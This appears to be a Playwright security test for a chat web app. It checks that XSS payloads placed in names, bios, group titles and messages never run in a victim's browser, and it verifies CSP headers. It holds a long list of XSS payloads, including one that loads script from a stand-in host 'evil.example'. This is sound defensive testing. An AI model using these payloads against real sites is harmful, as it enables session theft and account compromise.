// Hostile text everywhere a person can put text — display names, bios, group titles, message
// bodies — viewed by another person in a real browser: nothing may run. A test hook counts any
// execution (payloads call xss()), dialogs are caught, and the DOM is checked for live markup.
import { expect, test } from './fixtures';
import { messageBody, title as titleSchema } from '@/lib/schemas/conversations';
import { bio as bioSchema, displayName } from '@/lib/schemas/users';
import { PASSWORD, person, registerViaApi, uniqueUsername, visit } from './helpers';

const tags = [
  'img',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'details',
  'input',
  'a',
  'div',
  'marquee',
  'object',
  'embed',
  'math',
  'style',
  'link',
  'form',
  'button',
  'select',
  'textarea',
  'isindex',
  'frameset',
  'table',
  'td',
  'span',
  'p',
  'image',
  'source',
  'track',
];
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter', 'onclick', 'onstart'];

const special = [
  '<script>xss()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '"><script>xss()</script>',
  "'><script>xss()</script>",
  '</textarea><script>xss()</script>',
  '</title><script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<img src="x" onerror="javascript:xss()">',
  '<img src=x oNeRrOr=xss()>',
  '<img src=`x` onerror=xss()>',
  '<svg/onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<iframe src="javascript:parent.xss()">',
  '<a href="javascript:xss()">click</a>',
  '<a href="JaVaScRiPt:xss()">click</a>',
  '<a href="&#106;avascript:xss()">click</a>',
  '<a href="java\tscript:xss()">click</a>',
  'javascript:xss()',
  'JAVASCRIPT:xss()//https://example.com',
  '[click](javascript:xss())',
  '[click](javascript&#58;xss())',
  '![x](x" onerror="xss())',
  '<a href=javascript&colon;xss()>x</a>',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;script&#62;xss()&#60;/script&#62;',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '<object data="javascript:xss()">',
  '<embed src="javascript:xss()">',
  '<form action="javascript:xss()"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  '<base href="javascript:xss()//">',
  '<link rel=import href="data:text/html,<script>xss()</script>">',
  '<div style="background:url(javascript:xss())">',
  '<style>@import "javascript:xss()";</style>',
  '{{constructor.constructor("xss()")()}}',
  '${xss()}',
  '<img src=x:xss() onerror=eval(src)>',
  'https://example.com/"><img src=x onerror=xss()>',
  'https://example.com/?q=<script>xss()</script>',
  'https://example.com/#"onmouseover="xss()',
  '<details open ontoggle=xss()>',
  '<input autofocus onfocus=xss()>',
  '<body onload=xss()>',
  '<video><source onerror=xss()></video>',
  '\u202e<img src=x onerror=xss()>',
  '<img src=x onerror=xss()\u0009>',
];

const payloads = [...new Set([...special, ...tags.flatMap((tag) => handlers.map((h) => `<${tag} ${h}=xss() src=x autofocus tabindex=1>`))])];
/**
 * What the schemas refuse at the door (a bidi override anywhere, a tab in a name or title) is still
 * sent, and must get a 400; the rest must be shown as the text it is.
 */
const accepts = (schema: { safeParse: (v: unknown) => { success: boolean } }) => (payload: string) => schema.safeParse(payload).success;
const accepted = payloads.filter(accepts(messageBody));

test.setTimeout(240_000);

test(`${payloads.length} XSS payloads as names, bios, titles and messages run nothing in another person's browser`, async ({ browser, request }) => {
  expect(payloads.length).toBeGreaterThanOrEqual(300);
  const login = async (username: string) => (await (await request.post('/api/auth/token', { data: { username, password: PASSWORD } })).json()).token as string;

  // Attackers named after payloads (display names are at most 64 characters), each with a payload bio.
  const names = payloads.filter(accepts(displayName)).slice(0, 24);
  const bios = payloads.filter(accepts(bioSchema));
  const attackers: { id: string; token: string }[] = [];
  for (const [i, name] of names.entries()) {
    const user = await registerViaApi(request, uniqueUsername('x'), name);
    const token = await login(user.username);
    const bio = bios[(i * 7) % bios.length];
    expect((await request.patch('/api/users/me', { data: { bio }, headers: { Authorization: `Bearer ${token}` } })).status()).toBe(200);
    attackers.push({ id: user.id, token });
  }
  const victim = await person(browser, request, 'Victim');
  const lead = attackers[0];
  const auth = { Authorization: `Bearer ${lead.token}` };

  // Groups titled with payloads, every attacker in the main one.
  const titles = payloads.filter(accepts(titleSchema)).slice(0, 20);
  let mainGroup = '';
  for (const [i, title] of titles.entries()) {
    const memberIds = i === 0 ? [victim.id, ...attackers.slice(1).map((a) => a.id)] : [victim.id];
    const reply = await request.post('/api/conversations', { data: { type: 'group', title, memberIds }, headers: auth });
    expect(reply.status()).toBe(201);
    if (i === 0) mainGroup = (await reply.json()).conversation.id;
  }
  // Every payload as a message body, from several attackers.
  for (const [i, body] of payloads.entries()) {
    const from = attackers[i % attackers.length];
    const reply = await request.post(`/api/conversations/${mainGroup}/messages`, { data: { body }, headers: { Authorization: `Bearer ${from.token}` } });
    expect(reply.status()).toBe(accepts(messageBody)(body) ? 201 : 400);
  }

  const page = victim.page;
  await page.addInitScript(() => {
    (window as unknown as { __xss: number; xss: () => void }).__xss = 0;
    (window as unknown as { xss: () => void }).xss = () => void ((window as unknown as { __xss: number }).__xss += 1);
  });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const headerProblems: string[] = [];
  page.on('response', (response) => {
    if (response.request().resourceType() !== 'document') return;
    const h = response.headers();
    const scriptSrc = (h['content-security-policy'] ?? '').split(';').find((d) => d.trim().startsWith('script-src')) ?? '';
    if (!/'nonce-/.test(scriptSrc) || scriptSrc.includes('unsafe-inline')) headerProblems.push(`${response.url()}: script-src ${scriptSrc}`);
    if (!(h['content-security-policy'] ?? '').includes("frame-ancestors 'none'")) headerProblems.push(`${response.url()}: frame-ancestors`);
    if (h['x-content-type-options'] !== 'nosniff') headerProblems.push(`${response.url()}: nosniff`);
    if (!h['referrer-policy']) headerProblems.push(`${response.url()}: referrer-policy`);
  });

  // The list (titles, previews), the group with every message, its member list, people, profiles.
  await visit(page, '/chat');
  await expect(page.getByTestId('conversation-item')).toHaveCount(titles.length);
  await page.getByTestId('conversation-item').filter({ hasText: titles[0] }).first().click();
  const log = page.getByRole('log', { name: 'Messages' });
  await expect(page.getByTestId('message-body').first()).toBeVisible();
  for (let i = 0; i < 12 && !(await page.getByText('This is the beginning of the conversation.').isVisible()); i++) {
    await log.evaluate((el) => (el.scrollTop = 0));
    await page.waitForTimeout(300);
  }
  await expect(page.getByTestId('message-body')).toHaveCount(accepted.length);
  // Every payload is shown as the text it is.
  const shown = await page.getByTestId('message-body').allInnerTexts();
  expect(new Set(shown)).toEqual(new Set(accepted.map((p) => p.replace(/\r\n?/g, '\n'))));
  await page.getByRole('button', { name: 'Details' }).click();
  await expect(page.getByRole('complementary', { name: 'Group details' }).getByRole('listitem')).toHaveCount(attackers.length + 1);
  await visit(page, '/people');
  await page.getByLabel('Search people').fill('x_');
  await expect(page.getByRole('list', { name: 'People' }).getByRole('link').first()).toBeVisible();
  for (const attacker of attackers.slice(0, 8)) await visit(page, `/users/${attacker.id}`);

  const executed = await page.evaluate(() => (window as unknown as { __xss: number }).__xss);
  expect(executed, 'payloads that ran').toBe(0);
  expect(dialogs).toEqual([]);
  // No live markup came from user text: no inline handlers, no javascript: links, no foreign frames or scripts.
  const live = await page.evaluate(() => {
    const found: string[] = [];
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        if (/^on/i.test(attr.name)) found.push(`${el.tagName} ${attr.name}`);
        if (/^(href|src|action|formaction|data)$/i.test(attr.name) && /^\s*javascript:/i.test(attr.value))
          found.push(`${el.tagName} ${attr.name}=${attr.value}`);
      }
      if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META'].includes(el.tagName) && el.closest('body')) found.push(el.tagName);
      if (el.tagName === 'SCRIPT' && !(el as HTMLScriptElement).nonce && (el as HTMLScriptElement).src === '') found.push('inline script without nonce');
    }
    return found;
  });
  expect(live).toEqual([]);
  expect(headerProblems).toEqual([]);
});
